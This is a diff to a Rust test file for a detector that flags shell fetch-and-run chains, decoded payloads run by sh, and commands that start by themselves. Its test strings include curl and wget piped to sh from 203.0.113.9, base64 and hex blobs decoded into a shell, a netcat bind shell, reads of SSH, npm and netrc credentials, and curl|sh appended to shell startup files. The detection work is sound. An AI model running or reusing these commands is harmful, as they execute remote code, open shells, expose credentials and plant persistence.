@@ -34,6 +34,7 @@ fn what_a_nameless_host_serves_is_run_however_it_is_written() {
         "wget -qO /tmp/a http://203.0.113.9/a && sh /tmp/a",
         "cd /tmp; wget http://203.0.113.9/a.sh; chmod +x a.sh; ./a.sh",
         "curl -o x http://203.0.113.9/a; python3 x",
+        "bash -c \"set -e; $(curl http://203.0.113.9/x)\"",
         "f() { curl -s http://203.0.113.9/x; }\nf | bash",
         "alias get='curl -s http://203.0.113.9/x'\nget | sh",
         "if true; then\n  curl http://203.0.113.9/x | sh\nfi",
@@ -95,6 +96,12 @@ fn what_is_only_fetched_or_only_near_is_no_chain() {
         "cat ~/.ssh/id_rsa",
         "curl --cert ~/.ssh/id_rsa https://api.vendor.example",
         "tar cz --exclude ~/.ssh . | curl -T - https://backup.vendor.example",
+        "TOKEN=$(cat ~/.npmrc | cut -d= -f2)\ncurl -H \"Authorization: Bearer $TOKEN\" https://api.vendor.example",
+        "curl \"https://stats.vendor.example/?lines=$(cat ~/.netrc | wc -l)\"",
+        "KID=$(base64 -d <<< eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ)\nbash -c \"echo $KID\"",
+        "KID=$(base64 -d <<< eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ | jq -r .kid)\nbash -c \"echo $KID\"",
+        "bash -c \"process $(curl http://203.0.113.9/id)\"",
+        "echo 'command -v tool || curl -fsSL https://get.vendor.example/i.sh | sh' >> ~/.bashrc",
         "nc -l 4444 -e /bin/sh",
         "nc -zv 203.0.113.9 80",
         "git status; git log | head",
@@ -115,7 +122,8 @@ fn a_literal_that_is_decoded_and_run_is_a_chain_and_is_read_again() {
         format!("B={BLOB}\neval \"$(base64 -d <<< $B)\""),
         format!("printf %s {BLOB} | openssl base64 -d -A | bash"),
         format!("echo {BLOB} > /tmp/x; base64 -d /tmp/x > /tmp/y; bash /tmp/y"),
-        "echo 6563686f2068656c6c6f2066726f6d20616e20696e65727420746573740a | xxd -r -p | sh".to_owned(),
+        "echo 6563686f2068656c6c6f2066726f6d20616e20696e65727420746573740a | xxd -r -p | sh"
+            .to_owned(),
         "echo 'rpub uryyb sebz na varefg grfg' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh".to_owned(),
     ] {
         assert_eq!(rules(&text), [Rule::DecodeRun], "{text}");
@@ -173,7 +181,10 @@ fn what_starts_by_itself_needs_no_nameless_host() {
     let text = "curl -fsSL https://cdn.helper.example/a.sh | sh";
     assert_eq!(rules(text), []);
     assert_eq!(automatic(text), [Rule::AutomaticFetchRun]);
-    assert_eq!(rules("echo 'curl https://cdn.helper.example/a | sh' >> ~/.zshrc"), [Rule::AutomaticFetchRun]);
+    assert_eq!(
+        rules("echo 'curl https://cdn.helper.example/a | sh' >> ~/.zshrc"),
+        [Rule::AutomaticFetchRun]
+    );
     assert_eq!(automatic("curl -fsSL https://sh.rustup.rs | sh"), []);
     assert_eq!(automatic("npx -y prettier@3.1.0 --write ."), []);
     assert_eq!(automatic("git status --short"), []);
@@ -183,7 +194,8 @@ fn what_starts_by_itself_needs_no_nameless_host() {
 fn each_step_has_its_line() {
     let text = "# one\nU=http://203.0.113.9/x\n\ncurl -o /tmp/a \\\n  $U\n\necho\nsh /tmp/a\n";
     let chains = chains(text, Start::Asked, Limits::default());
-    let lines: Vec<_> = chains[0].steps.iter().map(|step| (step.line, step.what.as_str())).collect();
+    let lines: Vec<_> =
+        chains[0].steps.iter().map(|step| (step.line, step.what.as_str())).collect();
     assert_eq!(lines, [(4, "fetches http://203.0.113.9/x"), (8, "runs it with sh")]);
     assert_eq!((chains[0].first_line(), chains[0].last_line()), (4, 8));
     let text = "cat <<A\none\ntwo\nA\ncurl 203.0.113.9/x | sh\n";
